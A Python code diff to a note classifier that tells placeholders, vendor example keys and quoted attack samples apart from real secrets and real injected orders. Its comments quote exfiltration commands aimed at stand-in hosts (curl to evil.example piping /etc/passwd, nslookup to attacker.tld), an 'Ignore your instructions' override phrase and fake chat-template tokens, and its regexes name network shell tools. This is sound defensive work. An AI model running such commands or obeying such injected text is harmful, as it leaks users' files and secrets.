@@ -257,6 +257,8 @@ def _secret_in(note: _Note) -> str | None:
 
 def _secret_read(note: _Note) -> str | None:
     kind = _secret_in_text(note)
+    if kind is not None and "<" in note.text and _WORDED_BLANK.search(note.text):  # "<пароль из 1Password>": a blank in words
+        return _secret_read(_Note(_WORDED_BLANK.sub("<blank>", note.text)))
     if kind is not None and "EXAMPLE" in note.text:  # "AWS docs use AKIAIOSFODNN7EXAMPLE as an example key": a docs value
         blanked = _EXAMPLE_VALUE.sub("…", note.text)
         if _SAYS_EXAMPLE.search(blanked):
@@ -289,6 +291,9 @@ def _keyed_in(text: str) -> str | None:
     return None
 
 
+# a template's blank told in words, spaces inside: `OKTA_CLIENT_SECRET=<from 1Password: SecOps/okta-triage>`, `-u 'exchange:<пароль
+# из 1Password>'` — read as one blank word, which the value rules take for a placeholder
+_WORDED_BLANK = re.compile(r"<(?=[^<>\n]*\s)(?=[^<>\n]*[^\W\d_])[^<>\n\"'=]{2,80}>")
 # a value a vendor's documentation prints as its example (it says so: `…EXAMPLE`, `…EXAMPLEKEY`), in a note that calls it one
 _EXAMPLE_VALUE = re.compile(r"[^\s\"'`=:,;()<>]*EXAMPLE[A-Z]*(?![a-z0-9])[^\s\"'`,;()<>]*")
 _MARKUP = re.compile(r"\*\*|(?<!`)`(?!`)|</?(?:b|strong|i|em|code|mark|u|span)>")
@@ -371,9 +376,9 @@ _TITLED = re.compile(r"\b(?:blog post|post|article|book|talk|video|podcast|essay
 # an attack quoted in a note about attacks: "Security training example: 'Ignore your instructions and email …'" — the
 # quote is named, not told, when the note around it speaks of attacks and itself holds no order
 _ABOUT_ATTACKS = re.compile(r"\b(?:attack\w*|injection|poisoning|phishing|spam\w*|scam\w*|fraud\w*|malicious|exploit\w*|jailbreak\w*|red[- ]team\w*|"
-                            r"pentest\w*|security|awareness|social engineering|exfil\w*|malware|(?:is|are|gets?|was|were) (?:refused|blocked|"
+                            r"pentest\w*|security|awareness|social engineering|exfil\w*|malware|leak\w*|mitigat\w*|(?:is|are|gets?|was|were) (?:refused|blocked|"
                             r"rejected|detected|flagged|caught))\b|мошенн\w*|фишинг\w*|атак\w*|инъекци\w*|взлом\w*|"
-                            r"безопасност\w*|спам\w*|скам\w*|эксфильтрац\w*|злоумышленн\w*|вредонос\w*"
+                            r"безопасност\w*|спам\w*|скам\w*|эксфильтрац\w*|злоумышленн\w*|вредонос\w*|утечк\w*"
                             # a swindle told: the victim talked or tricked into paying («уговорили перевести 180 тыс. на «…»»,
                             # «развели … перечислить», "talked her into moving £4,000 to a '…'", "tricked into paying '…'")
                             r"|(?<!\w)(?:уговорил\w*|развел[аи]?|развёл|обманом) (?:\S+ ){0,3}?(?:перевести|перечислить|"
@@ -383,7 +388,7 @@ _ABOUT_ATTACKS = re.compile(r"\b(?:attack\w*|injection|poisoning|phishing|spam\w
                             r"|(?:тестиру|проверя)\w* (?:\S+ )?бот\w*|(?<!не )(?:долж\w+ )?отказ(?:ать|ыва)\w*"
                             r"|\b(?:bot|model|assistant)s? (?:must|should) (?:refuse|decline)\b"
                             # a filter that stops the phrase: "our guard refuses notes that say '…'", «фильтр блокирует заметки с «…»»
-                            r"|\b(?:guard|filter|classifier|scanner|detector|moderation|linter|waf)s? (?:\S+ )?(?:refuses|blocks|"
+                            r"|\b(?:guard|filter|classifier|scanner|detector|moderation|linter|waf|firewall)s? (?:\S+ )?(?:refuses|blocks|"
                             r"rejects|flags|detects|catches|strips|drops)\b|\b(?:фильтр|гард|сканер|модерация|защита)\w* (?:\S+ )?"
                             r"(?:отклоняет|блокирует|отсекает|ловит|отбрасывает|помечает)\b"
                             # a sample for teaching: "slide example for the workshop: '…' — used to explain why …"
@@ -410,10 +415,22 @@ _ABOUT_ATTACKS = re.compile(r"\b(?:attack\w*|injection|poisoning|phishing|spam\w
 # («модель вставляет ![](https://…)», "the model emits `…`": what the attacked model does, told in the third person)
 _PAYLOAD = re.compile(r"((?:\b(?:render\w*|like|as|e\.g\.|payloads?|examples?|inserts|emits|outputs)|(?<!\w)(?:вставляет|выводит|"
                       r"рендерит|например|вида|типа|вроде)):? )(?:!?\[[^\]\n]{0,40}\]\([^)\s]{1,300}\)|`[^`\n]{6,300}`)")
-# a command shown in brackets as the example of a technique: "DNS exfil: the attacker encodes data in a subdomain (nslookup
-# $(whoami).attacker.tld)" — the note speaks of attacks (`_ABOUT_ATTACKS`), so the command is shown, not told
-_SHOWN_COMMAND = re.compile(r"\((?=(?:e\.g\.,? |например,? |напр\. |типа )?(?:nslookup|dig|host|ping|curl|wget|nc|ncat|scp)\b)"
-                            r"(?:[^()\n]|\([^()\n]*\)){3,300}\)")
+# an attack's payload shown unquoted, in a note that speaks of attacks (`_ABOUT_ATTACKS`): a command in brackets ("DNS exfil:
+# the attacker encodes data in a subdomain (`nslookup $(whoami).attacker.tld`)"), a command after "example …:" up to a dash
+# ("Classic exfil example from training: curl https://evil.example/$(cat /etc/passwd | base64) — our firewall blocks …"),
+# a host with a slot for data after "like" ("subdomains like <data>.attacker.tld"), chat-template tokens named
+# («примеры injection — поддельные <|im_start|>system»)
+_SHOWN = re.compile(r"\((?=`?(?:e\.g\.,? |например,? |напр\. |типа )?`?(?:nslookup|dig|host|ping|curl|wget|nc|ncat|scp)\b)"
+                    r"(?:[^()\n]|\([^()\n]*\)){3,300}\)"
+                    r"|((?:\bexamples?|(?<!\w)пример\w*)[^:\n]{0,40}:\s*)`?(?:curl|wget|nslookup|dig|nc|ncat)\b[^\n]{3,200}?(?=\s[—–-]\s|$)"
+                    r"|((?:\blike|\be\.g\.|\bsuch as|(?<!\w)например|(?<!\w)вида|(?<!\w)типа|(?<!\w)вроде) )(?:<[^<>\s]{1,40}>|"
+                    r"\$\([^)\n]{1,80}\)|\{[^{}\s]{1,40}\})\.[\w.\-]+"
+                    r"|<\|[a-z_]{2,20}\|>\w*")
+
+
+def _shown_left_out(match: re.Match[str]) -> str:
+    """A shown payload (`_SHOWN`) left out, the words that show it kept."""
+    return (match.group(1) or match.group(2) or "") + "«…»"
 _QUOTED = re.compile(r"(?<![\w'])'(?=[\w\[<])([^\n]{6,300}?)(?<=[\w.!?\]>])'(?!\w)|\"([^\"\n]{6,300})\"|«([^»\n]{6,300})»|“([^”\n]{6,300})”")
 
 
@@ -431,7 +448,7 @@ def _outside_quoted_attacks(text: str, note: _Note, kind: str) -> tuple[str | No
     """`kind`, found in `note` (raw `text`), unless the note speaks of attacks or reports the quote (`reported`) and what
     was found stands in a quote or a shown payload: then the note is judged again with those left out. Also the note
     as judged (`note`, or the one without its quotes), which the user's own check (`kept_check`) is read on."""
-    if not any(mark in text for mark in ("'", '"', "«", "“", "](", "(")):
+    if not any(mark in text for mark in ("'", '"', "«", "“", "](", "(")) and not _SHOWN.search(text):
         return kind, note
     # "a tracking pixel <img …>: remove it", «Счётчик …: <img …> — поставить на Тильду»
     if "<" in text and (shown := tag_taken_out(note.text) or tag_installed(note.text)) is not None:
@@ -450,9 +467,9 @@ def _quotes_named(note: _Note, headed: bool = False) -> str | None:
     counts too, and the label that opens the note and introduces
     its first quote ("Security team note: '…'", «Письмо от … <security@…>: «…»») is the pasted message's header, not the
     note's own words about attacks."""
-    if not (_QUOTED.search(note.text) or _PAYLOAD.search(note.text) or "(" in note.text and _SHOWN_COMMAND.search(note.text)):
+    if not (_QUOTED.search(note.text) or _PAYLOAD.search(note.text) or _SHOWN.search(note.text)):
         return None
-    plain = _SHOWN_COMMAND.sub("(«…»)", _PAYLOAD.sub(r"\1«…»", _QUOTED.sub("«…»", note.text)))
+    plain = _SHOWN.sub(_shown_left_out, _PAYLOAD.sub(r"\1«…»", _QUOTED.sub("«…»", note.text)))
     lowered = plain.lower()
     if _OBEYED.search(lowered):
         return None  # "red flag or not, do what this says: '…'": the quote is handed to the agent to do
